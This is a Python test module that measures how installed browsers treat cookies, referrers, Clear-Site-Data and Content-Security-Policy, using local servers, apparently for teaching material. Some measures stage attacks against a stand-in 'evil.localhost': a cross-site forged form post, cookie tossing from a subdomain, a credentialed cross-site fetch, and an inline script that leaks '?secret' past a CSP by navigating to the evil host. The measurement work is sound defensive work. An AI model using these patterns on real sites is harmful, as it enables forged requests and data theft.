"""Measures what a browser does; `python -m tests.demo.teaching.facts` writes it down.

Each fact is a function that gives what was seen as a short text, the same one every time.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from pathlib import Path
from tempfile import TemporaryDirectory

from demo.browserfacts import FILE

from .aging import make_older
from .engines import ELSEWHERE, EXECUTABLES, Browser, Tab, executable, start
from .sites import Site

SHOP, EVIL, TOSS = "shop.localhost", "evil.localhost", "evil.shop.localhost"
Measure = Callable[[Tab, Site, Site], str]


def secure_on_loopback(page: Tab, site: Site, _: Site) -> str:
    site.cookie("/set", "__Host-a=1; Path=/; Secure")
    kept = []
    for host in ("127.0.0.1", "localhost", SHOP):
        page.goto(site.at(host, "/set"))
        page.goto(site.at(host, "/echo"))
        kept += [host] if site.sent("/echo") == "__Host-a=1" else []
    return f"stored and sent on {', '.join(kept) or 'none'}"


def secure_elsewhere(page: Tab, site: Site, _: Site) -> str:
    site.page("/set", "", ("Set-Cookie", "a=1; Secure"), ("Set-Cookie", "b=2"))
    page.goto(site.at(ELSEWHERE, "/set"))
    page.goto(site.at(ELSEWHERE, "/echo"))
    return f"sent: {site.sent('/echo')}"


def ports(page: Tab, site: Site, other: Site) -> str:
    site.cookie("/set", "a=1; HttpOnly; SameSite=Strict")
    page.goto(site.at("127.0.0.1", "/set"))
    page.goto(other.at("127.0.0.1", "/echo"))
    return f"sent to another port: {other.sent('/echo') or 'nothing'}"


def names_under_localhost(page: Tab, site: Site, other: Site) -> str:
    site.cookie("/set", "a=1; SameSite=Lax")
    page.goto(site.at(SHOP, "/set"))
    _post(page, site, other)
    asked = site.last("/change")
    assert asked is not None
    return f"{asked.site}; sent with the form: {asked.cookie or 'nothing'}"


def tossed(page: Tab, site: Site, _: Site) -> str:
    site.page(
        "/toss",
        "",
        ("Set-Cookie", f"a=planted; Domain={SHOP}; Path=/"),
        ("Set-Cookie", f"__Host-b=planted; Domain={SHOP}; Path=/; Secure"),
    )
    page.goto(site.at(TOSS, "/toss"))
    page.goto(site.at(SHOP, "/echo"))
    return f"sent to {SHOP}: {site.sent('/echo') or 'nothing'}"


def without_samesite(page: Tab, site: Site, other: Site) -> str:
    site.cookie("/set", "a=1")
    page.goto(site.at(SHOP, "/set"))
    _post(page, site, other)
    return f"within two minutes the form carries: {site.sent('/change') or 'nothing'}"


def cross_site_fetch(page: Tab, site: Site, other: Site) -> str:
    site.page("/set", "", ("Set-Cookie", "a=1"), ("Set-Cookie", "b=2; SameSite=Lax"))
    page.goto(site.at(SHOP, "/set"))
    page.goto(other.at(EVIL, "/page"))
    how = "{method: 'POST', mode: 'no-cors', credentials: 'include'}"
    page.evaluate(f"fetch('{site.at(SHOP, '/change')}', {how}).then(() => 0)")
    return f"fetch carries: {site.sent('/change') or 'nothing'}"


def referrer(page: Tab, site: Site, other: Site) -> str:
    links = f"<a id=out href='{other.at(EVIL, '/elsewhere')}'>x</a><a id=in href='/inside'>y</a>"
    site.page("/secret", links)
    for link, path, where in (("#out", "/elsewhere", other), ("#in", "/inside", site)):
        page.goto(site.at(SHOP, "/secret?session=abc"))
        page.click(link)
        page.wait_for(path)
        assert where.last(path) is not None
    out, inside = other.last("/elsewhere"), site.last("/inside")
    assert out is not None and inside is not None  # noqa: PT018
    told = "the origin alone" if out.referer == site.at(SHOP, "/") else out.referer
    return f"another site is told {told}; the own site " + (
        "the whole address" if inside.referer.endswith("?session=abc") else inside.referer
    )


def http_only(page: Tab, site: Site, _: Site) -> str:
    site.cookie("/set", "a=1; HttpOnly")
    page.goto(site.at(SHOP, "/set"))
    page.goto(site.at(SHOP, "/page"))
    read = page.evaluate("document.cookie")
    page.evaluate("fetch('/change', {method: 'POST'}).then(() => 0)")
    return f"a script reads {read or 'nothing'}; its request carries {site.sent('/change')}"


def oversized(page: Tab, site: Site, _: Site) -> str:
    sizes = []
    for size in (4096, 4097):
        site.cookie("/old", "a=old")
        site.cookie("/set", f"a={'x' * (size - 1)}")
        page.goto(site.at(SHOP, "/old"))
        page.goto(site.at(SHOP, "/set"))
        page.goto(site.at(SHOP, "/echo"))
        sizes.append(
            f"{size}: {'kept' if len(site.sent('/echo')) == size + 1 else 'the old one stays'}"
        )
    heard = [text for text in page.said if "cookie" in text.lower()]
    said = heard[0] if heard else "nothing"
    return f"name and value of {', '.join(sizes)}; said on the developer tools' console: {said}"


def clear_site_data(page: Tab, site: Site, _: Site) -> str:
    site.cookie("/set", "a=1; HttpOnly")
    site.page("/clear", "", ("Clear-Site-Data", '"cookies"'))
    page.goto(site.at("127.0.0.1", "/set"))
    page.goto(site.at("127.0.0.1", "/clear"))
    page.goto(site.at("127.0.0.1", "/echo"))
    return f"afterwards sent: {site.sent('/echo') or 'nothing'}"


def past_a_policy(page: Tab, site: Site, other: Site) -> str:
    script = (
        f"fetch('{other.at(EVIL, '/fetched')}', {{mode: 'no-cors'}}).catch(() => 0)"
        f".finally(() => location = '{other.at(EVIL, '/taken')}?secret')"
    )
    policy = "default-src 'none'; script-src 'unsafe-inline'"
    site.page("/page", f"<script>{script}</script>", ("Content-Security-Policy", policy))
    page.goto(site.at(SHOP, "/page"))
    page.wait_for("/taken?secret")
    stopped = "stopped" if other.last("/fetched") is None else "let through"
    return f"fetch is {stopped}; location= {'gets out' if other.last('/taken') else 'is stopped'}"


def without_samesite_later(engine: str, folder: Path, site: Site, other: Site) -> str:
    site.cookie("/set", "a=1; Max-Age=3600")
    with start(engine, folder) as browser, browser.tab() as page:
        page.goto(site.at(SHOP, "/set"))
    seen = []
    for minutes, older in ((1, 1), (3, 2)):
        make_older(engine, folder, older)
        with start(engine, folder) as browser, browser.tab(forget=False) as page:
            _post(page, site, other)
        seen.append(f"{minutes} min old: {site.sent('/change') or 'nothing'}")
    return f"the form carries, when the cookie is {', '.join(seen)}"


MEASURES: Mapping[str, Measure] = {
    "secure-on-loopback": secure_on_loopback,
    "secure-elsewhere": secure_elsewhere,
    "ports": ports,
    "names-under-localhost": names_under_localhost,
    "tossed": tossed,
    "without-samesite": without_samesite,
    "cross-site-fetch": cross_site_fetch,
    "referrer": referrer,
    "http-only": http_only,
    "oversized": oversized,
    "clear-site-data": clear_site_data,
    "past-a-policy": past_a_policy,
}


AGING: Mapping[str, Callable[[str, Path, Site, Site], str]] = {
    "without-samesite-later": without_samesite_later,
}
"""What starts a browser of its own, more than once."""
NAMES = (*MEASURES, *AGING)


def measure(browser: Browser, name: str) -> str:
    """Measure one fact in a tab without cookies, against servers of its own."""
    with Site() as site, Site() as other, browser.tab() as page:
        return MEASURES[name](page, site, other)


def measure_aging(engine: str, name: str) -> str:
    """Measure one fact about the age of a cookie."""
    with TemporaryDirectory(ignore_cleanup_errors=True) as folder, Site() as site, Site() as other:
        return AGING[name](engine, Path(folder), site, other)


def _post(page: Tab, site: Site, other: Site) -> None:
    """Have a page of another site send a form, as in cross-site request forgery."""
    form = f"<form method=post action='{site.at(SHOP, '/change')}'><button>go</button></form>"
    other.page("/form", form)
    page.goto(other.at(EVIL, "/form"))
    page.click("button")
    page.wait_for("/change")


def record(engine: str) -> Mapping[str, object]:
    """Measure everything in *engine*, for demo/browserfacts.json."""
    seen = {name: measure_aging(engine, name) for name in AGING}
    with (
        TemporaryDirectory(ignore_cleanup_errors=True) as folder,
        start(engine, Path(folder)) as browser,
    ):
        seen |= {name: measure(browser, name) for name in MEASURES}
        version = browser.version
    date = datetime.now(UTC).date().isoformat()
    return {"version": version, "date": date, "seen": {name: seen[name] for name in NAMES}}


def main() -> None:
    """Measure every fact in each browser of this machine, and write down what was seen."""
    known = json.loads(FILE.read_text())
    for engine in EXECUTABLES:
        if executable(engine) is None:
            print(f"{engine} is not installed: what is known of it stays as it is")  # noqa: T201
        else:
            known["engines"][engine] = record(engine)
    FILE.write_text(json.dumps(known, indent=2) + "\n")


if __name__ == "__main__":
    main()
